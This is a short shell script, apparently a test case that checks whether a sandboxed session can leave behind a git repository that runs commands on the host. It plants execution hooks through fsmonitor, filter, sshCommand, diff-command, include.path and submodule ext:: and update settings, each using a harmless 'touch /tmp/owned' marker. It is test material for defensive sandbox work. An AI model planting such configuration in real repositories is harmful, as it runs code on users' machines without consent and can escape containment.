# Leave a repository whose configuration runs programs: a monitor, filters, aliases, an editor, included files.
# aims: host
# control: none (a report is only written of a session)
# session: own
# needs: git
git init -q repo && cd repo || exit 1
echo tried
git config core.fsmonitor 'touch /tmp/owned; false'
git config filter.x.smudge 'touch /tmp/owned'
git config include.path ../evil.config
git config core.sshCommand 'touch /tmp/owned'
git config diff.x.command 'touch /tmp/owned'
printf '* filter=x diff=x\n' > .gitattributes
printf '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% /tmp/owned\n\tupdate = !touch /tmp/owned\n' > .gitmodules
for file in .git/config .gitattributes .gitmodules; do
  echo "left: $(realpath --relative-to="$ATTACK_WORK" "$file")"
done
